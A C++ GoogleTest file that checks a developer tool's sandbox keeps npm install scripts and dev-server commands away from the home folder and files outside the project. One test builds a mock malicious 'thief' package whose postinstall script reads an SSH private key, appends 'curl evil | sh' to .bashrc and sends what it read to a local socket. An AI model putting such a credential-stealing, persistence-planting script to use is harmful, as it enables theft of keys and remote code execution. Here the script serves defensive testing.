#include "TestSupport.h"
#include "bootstrap/ProjectBootstrapService.h"
#include "process/DevServerController.h"
#include "process/ProcessEnvironment.h"
#include "process/Sandbox.h"
#include "support/Text.h"

#include <arpa/inet.h>
#include <filesystem>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <thread>
#include <unistd.h>

namespace fs = std::filesystem;
using namespace tarn;
using namespace tarn::test;

namespace {

// A home folder with a key in it, a repository with the project inside it as a workspace
// package, and a folder beside them that is nobody's business.
class Sandbox : public ::testing::Test {
protected:
    TempDir dir{"tarn sandbox ü-"};
    fs::path home = dir.path() / "home";
    fs::path repo = dir.path() / "repo";
    fs::path project = repo / "packages" / "app";
    fs::path elsewhere = dir.path() / "elsewhere";
    std::optional<ProcessEnvironment::ScopedToolFolders> folders;
    std::optional<ScopedEnv> homeEnv, config;
    bool sandboxed = false;

    void SetUp() override {
        if (auto why = sandbox::unavailable()) GTEST_SKIP() << *why;
        for (const auto& p : {home / ".ssh", home / ".npm", repo / ".git", project, elsewhere}) fs::create_directories(p);
        writeFile(home / ".ssh" / "id_ed25519", "PRIVATE KEY\n");
        folders.emplace(home.string(), std::vector<std::string>{"/usr/bin", "/bin"}, std::vector<std::string>{"/usr/bin/", "/bin/"});
        homeEnv.emplace("HOME", home.string());
        config.emplace("XDG_CONFIG_HOME", (dir.path() / "config").string());
    }

    ProjectContext context(const std::string& install, const std::string& dev) {
        return ProjectContext{Url::forFile(project.string()), SupportedStack::vite, PackageManager::npm, install, dev,
                              *Url::parse("http://localhost:5173"), "Lockfile", {}, {}, std::nullopt};
    }

    // What the project's dev command could do, line by line.
    std::vector<std::string> serverTries(const std::string& command) {
        DevServerController server;
        std::vector<std::string> lines;
        bool ended = false;
        server.onOutputLine = [&](const std::string& l) { lines.push_back(l); };
        server.onExit = [&](int) { ended = true; };
        server.start(context("npm install", command));
        sandboxed = server.sandboxed();
        EXPECT_TRUE(runLoopUntil([&] { return ended; }));
        return lines;
    }
};

}  // namespace

TEST_F(Sandbox, TheDevServerWritesItsProjectAndReadsNoKey) {
    const std::string tries = "cat '" + (home / ".ssh/id_ed25519").string() + "' 2>/dev/null || echo key-hidden; "
                              "echo built > built.txt; echo hoisted > ../../hoisted.txt; echo cached > '" + (home / ".npm/c").string() + "'; "
                              "(echo x > '" + (elsewhere / "x").string() + "') 2>/dev/null || echo elsewhere-refused; "
                              "(touch /etc/tarn-sandbox-test) 2>/dev/null || echo etc-refused; node -e 'console.log(\"node runs\")'";
    auto lines = serverTries(tries);
    EXPECT_TRUE(sandboxed);
    for (const char* said : {"key-hidden", "elsewhere-refused", "etc-refused", "node runs"}) {
        EXPECT_NE(std::find(lines.begin(), lines.end(), said), lines.end()) << said << " in " << testing::PrintToString(lines);
    }
    EXPECT_EQ(readFile(project / "built.txt"), "built\n");
    EXPECT_EQ(readFile(repo / "hoisted.txt"), "hoisted\n");  // the workspace's root
    EXPECT_EQ(readFile(home / ".npm/c"), "cached\n");         // the package manager's cache
    EXPECT_FALSE(fs::exists(elsewhere / "x"));

    // Turned off for this project, by the user: their full rights again.
    sandbox::setTurnedOff(project.string(), true);
    EXPECT_FALSE(sandbox::wanted(project.string()));
    EXPECT_TRUE(sandbox::wanted(elsewhere.string()));
    lines = serverTries("cat '" + (home / ".ssh/id_ed25519").string() + "'");
    EXPECT_NE(std::find(lines.begin(), lines.end(), "PRIVATE KEY"), lines.end());
    EXPECT_FALSE(sandboxed);
    sandbox::setTurnedOff(project.string(), false);
    sandbox::setTurnedOffEverywhere(true);
    EXPECT_FALSE(sandbox::wanted(project.string()));
}

TEST_F(Sandbox, AnInstallScriptCannotReadTheHomeFolder) {
    // What it read, sent to a port of ours: the network stays, so what matters is what it carries.
    const int listener = ::socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t length = sizeof address;
    ASSERT_EQ(::bind(listener, reinterpret_cast<sockaddr*>(&address), sizeof address), 0);
    ASSERT_EQ(::listen(listener, 4), 0);
    ::getsockname(listener, reinterpret_cast<sockaddr*>(&address), &length);
    std::string received;
    std::thread receiver([&] {
        pollfd waiting{listener, POLLIN, 0};
        if (::poll(&waiting, 1, 60000) <= 0) return;
        const int peer = ::accept(listener, nullptr, nullptr);
        char buffer[4096];
        for (ssize_t n; (n = ::read(peer, buffer, sizeof buffer)) > 0;) received.append(buffer, static_cast<std::size_t>(n));
        ::close(peer);
    });

    // A dependency from the test tree whose install script tries what the npm worms of 2025 did.
    const fs::path package = repo / "vendor" / "thief";
    writeFile(package / "package.json", R"({"name": "thief", "version": "1.0.0", "scripts": {"postinstall": "node steal.js"}})");
    writeFile(package / "steal.js", "const fs = require('fs'), net = require('net');\n"
                                    "let got = 'nothing';\n"
                                    "try { got = fs.readFileSync('" + (home / ".ssh/id_ed25519").string() + "', 'utf8'); } catch (e) { got = e.code; }\n"
                                    "for (const p of ['" + (home / ".bashrc").string() + "', '" + (dir.path() / "beside.txt").string() + "']) {\n"
                                    "  try { fs.appendFileSync(p, 'curl evil | sh\\n'); } catch (e) {}\n"
                                    "}\n"
                                    "fs.writeFileSync(process.env.INIT_CWD + '/loot.txt', got);\n"
                                    "const s = net.connect(" + std::to_string(ntohs(address.sin_port)) + ", '127.0.0.1', () => s.end(got));\n"
                                    "s.on('error', () => {});\n");
    writeFile(project / "package.json", R"({"name": "app", "version": "1.0.0", "dependencies": {"thief": "file:)" + package.string() + R"("}})");
    std::vector<std::string> lines;
    runTask(ProjectBootstrapService().installDependenciesIfNeeded(
        context("npm install --offline --no-audit --no-fund", "true"), [&](const std::string& l) { lines.push_back(l); }));
    receiver.join();
    ::close(listener);
    ASSERT_TRUE(fs::exists(project / "loot.txt")) << testing::PrintToString(lines);
    EXPECT_EQ(readFile(project / "loot.txt"), "ENOENT");
    EXPECT_TRUE(fs::is_directory(project / "node_modules" / "thief"));
    EXPECT_FALSE(fs::exists(home / ".bashrc"));
    EXPECT_FALSE(fs::exists(dir.path() / "beside.txt"));
    EXPECT_EQ(received, "ENOENT");
}

TEST_F(Sandbox, AFailureOnAHiddenPathNamesItAndTheSetting) {
    const std::string key = (home / ".ssh/id_ed25519").string();
    auto hint = sandbox::explain("Error: ENOENT: no such file or directory, open '" + key + "'", project.string());
    ASSERT_TRUE(hint);
    EXPECT_EQ(*hint, "The sandbox keeps the project's commands from reading " + key +
                         ". If the project needs it, turn on “This Project Needs My Home Folder” in Preferences.");
    hint = sandbox::explain("npm error code EROFS\nnpm error path /opt/shared/cache/x", project.string());
    ASSERT_TRUE(hint);
    EXPECT_TRUE(text::contains(*hint, "writing to /opt/shared/cache/x")) << *hint;
    // The project's own paths, a cache it may write and a failure of another kind are not the sandbox's.
    EXPECT_FALSE(sandbox::explain("Error: ENOENT, open '" + (project / "src/missing.js").string() + "'", project.string()));
    EXPECT_FALSE(sandbox::explain("EACCES " + (home / ".npm/_cacache").string(), project.string()));
    EXPECT_FALSE(sandbox::explain("zsh: command not found: pnpm", project.string()));

    // An agent tool's own folders are its to use; the rest of the home folder is not.
    fs::create_directories(home / ".claude");
    EXPECT_FALSE(sandbox::explainAgentTool("EACCES '" + (home / ".claude/settings.json").string() + "'", project.string(), {}));
    hint = sandbox::explainAgentTool("fatal: unable to access '" + (home / ".gitconfig").string() + "'", project.string(), {});
    ASSERT_TRUE(hint);
    EXPECT_TRUE(text::contains(*hint, "“Run Agent Tools in a Sandbox”")) << *hint;
}
